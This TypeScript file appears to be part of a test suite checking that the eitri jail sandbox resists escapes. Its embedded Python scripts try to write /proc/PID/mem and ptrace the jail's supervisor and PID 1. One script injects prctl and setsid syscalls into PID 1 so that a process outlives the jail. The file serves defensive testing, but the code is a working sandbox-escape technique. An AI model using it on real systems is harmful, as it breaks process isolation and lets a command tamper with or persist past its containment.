/**
 * Attacks on what eitri trusts inside a jail: the warm jail's supervisor and bubblewrap's PID 1
 * (which the kill of a command's stragglers spares) run as the same user as the commands, so
 * only their being non-dumpable keeps a command from tracing them or writing their memory, and
 * with it every later command of the session (decision 0036).
 */
import fs from 'node:fs'
import {
  brief,
  killAll,
  processesWith,
  quote,
  sleep,
  splitWord,
  STARTED,
  type Attack,
  type AttackContext,
} from './helpers.ts'

/**
 * Tries `/proc/PID/mem` read-write and `PTRACE_SEIZE` on the warm jail's supervisor (the
 * process running /opt/eitri/node) and on PID 1, and, as the control, on a process this command
 * started itself: the same user and dumpable, so the kernel lets it in unless the jail forbids
 * tracing.
 */
const SEIZE = `
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
def cmdline(pid):
    try:
        return open('/proc/%d/cmdline' % pid, 'rb').read()
    except OSError:
        return b''
def attack(pid):
    said = []
    try:
        open('/proc/%d/mem' % pid, 'r+b', buffering=0).close()
        said.append('MEM-WRITABLE')
    except OSError as error:
        said.append('mem refused errno %d' % error.errno)
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        said.append('SEIZED')
    else:
        said.append('seize refused errno %d' % ctypes.get_errno())
    return ' '.join(said)
own = subprocess.Popen(['sleep', '30'])
print('own child:', attack(own.pid), flush=True)
own.kill()
supervisors = [int(p) for p in os.listdir('/proc') if p.isdigit() and cmdline(int(p)).startswith(b'/opt/eitri/node')]
print('supervisors found:', len(supervisors), flush=True)
for pid in supervisors:
    print('supervisor %d:' % pid, attack(pid), flush=True)
print('pid 1:', attack(1), flush=True)
`

/**
 * Takes over PID 1 of the command's own jail (x86_64): attaches, makes it call
 * `prctl(PR_SET_PDEATHSIG, 0)` and `setsid()` at the `syscall` instruction it waits in, and lets
 * it go. PID 1 then survives bubblewrap's end and the kill of its process group, and with it the
 * PID namespace and whatever the command left there. The control attaches to its own child.
 */
const HOLD_PID_1 = `
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ('r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs').split()]
def attach(pid):
    if libc.ptrace(16, pid, None, None) != 0:
        return 'refused errno %d' % ctypes.get_errno()
    os.waitpid(pid, 0x40000000)
    return 'ATTACHED'
own = subprocess.Popen(['sleep', '30'])
print('own child:', attach(own.pid), flush=True)
own.kill()
said = attach(1)
print('pid 1:', said, flush=True)
if said == 'ATTACHED' and os.uname().machine == 'x86_64':
    saved = Regs()
    libc.ptrace(12, 1, None, ctypes.byref(saved))
    def call(number, first=0, second=0):
        regs = Regs()
        ctypes.memmove(ctypes.byref(regs), ctypes.byref(saved), ctypes.sizeof(regs))
        regs.rip, regs.rax, regs.orig_rax, regs.rdi, regs.rsi = saved.rip - 2, number, (1 << 64) - 1, first, second
        libc.ptrace(13, 1, None, ctypes.byref(regs))
        libc.ptrace(9, 1, None, None)
        os.waitpid(1, 0x40000000)
        libc.ptrace(12, 1, None, ctypes.byref(regs))
        return ctypes.c_longlong(regs.rax).value
    print('pid 1 pdeathsig cleared:', call(157, 1, 0), 'setsid:', call(112), flush=True)
    libc.ptrace(13, 1, None, ctypes.byref(saved))
    libc.ptrace(17, 1, None, None)
`

/** The parent of `pid` (0 when gone). */
function parentOf(pid: number): number {
  try {
    const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8')
    return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1])
  } catch {
    return 0
  }
}

/**
 * Runs the takeover of PID 1 in a cold jail's command (`how`), which then leaves a marked
 * process behind; answers what the command said and the marked processes left a moment after
 * its end (killed, with the PID 1 holding them, before this returns).
 */
async function holdPidOne(
  ctx: AttackContext,
  how: 'foreground' | 'job',
  marker: string,
): Promise<{ said: string; survivors: number }> {
  const script = `python3 -c ${quote(HOLD_PID_1)} 2>&1; (setsid bash -c "exec -a ${splitWord(marker)} sleep 1000" </dev/null >/dev/null 2>&1 &); echo left`
  const command = ['/bin/bash', '-c', `echo ${STARTED}; ${script}`]
  const run =
    how === 'foreground'
      ? ctx.jailed(script, { fresh: true, timeoutMs: 5_000, expectStart: false })
      : ctx.jail.start({ command, access: 'workspace-write' }).then((job) => job.finished)
  // A PID 1 taken over still holds the command's output, so its run never ends: past its
  // deadline, what it left is looked for anyway, and killing it ends the run.
  const deadline = new Promise<false>((resolve) => setTimeout(() => resolve(false), 15_000).unref())
  const ended = await Promise.race([run.then(() => true), deadline])
  await sleep(500)
  const left = processesWith(marker)
  killAll([...left.map(parentOf).filter((pid) => pid > 1), ...left])
  const result = await run
  const said = result.stdout.replace(STARTED, '')
  return { said: ended ? said : `${said} (the run outlived its deadline)`, survivors: left.length }
}

export const supervisorAttacks: readonly Attack[] = [
  {
    id: 17,
    name: "ptrace and /proc/PID/mem of the warm jail's supervisor and PID 1",
    callers: ['root', 'unprivileged'],
    async run(ctx) {
      // Twice: the first may be the cold start beside which the warm jail starts.
      await ctx.jailed('true')
      const jailed = await ctx.jailed(`python3 -c ${quote(SEIZE)} 2>&1`)
      const output = jailed.stdout.replace(STARTED, '')
      const own = /own child: (.*)/.exec(output)?.[1] ?? ''
      const supervisors = [...output.matchAll(/supervisor \d+: (.*)/g)].map((match) => match[1])
      const pid1 = /pid 1: (.*)/.exec(output)?.[1] ?? ''
      if (pid1 === '') throw new Error(`the command did not attack PID 1: ${brief(output)}`)
      if (supervisors.length === 0)
        throw new Error(`the command found no supervisor to attack: ${brief(output)}`)
      return {
        control: own.includes('MEM-WRITABLE') && own.includes('SEIZED'),
        jailed: [...supervisors, pid1].some((said) => /MEM-WRITABLE|SEIZED/.test(said ?? '')),
        detail: brief(output, 400),
      }
    },
  },
  {
    id: 17,
    name: "ptrace of a cold jail's PID 1, to keep its PID namespace alive after the command",
    callers: ['root', 'unprivileged'],
    async run(ctx) {
      // A foreground command in a jail of its own, then two background jobs (the second takes
      // a jail started ahead, where the jail starts them: its waiter is PID 1).
      const runs = [
        await holdPidOne(ctx, 'foreground', `${ctx.marker}-foreground`),
        await holdPidOne(ctx, 'job', `${ctx.marker}-job1`),
        await holdPidOne(ctx, 'job', `${ctx.marker}-job2`),
      ]
      const owns = runs.map(({ said }) => /own child: (.*)/.exec(said)?.[1] ?? '')
      const pid1 = runs.map(({ said }) => /pid 1: (.*)/.exec(said)?.[1] ?? '')
      if (pid1.some((said) => said === ''))
        throw new Error(
          `a command did not attack PID 1: ${brief(runs.map((run) => run.said).join(' | '))}`,
        )
      return {
        control: owns.every((said) => said === 'ATTACHED'),
        jailed: runs.some((run) => run.survivors > 0) || pid1.includes('ATTACHED'),
        detail: brief(
          runs.map((run) => `${run.said.trim()} (survivors ${run.survivors})`).join(' | '),
          600,
        ),
      }
    },
  },
]
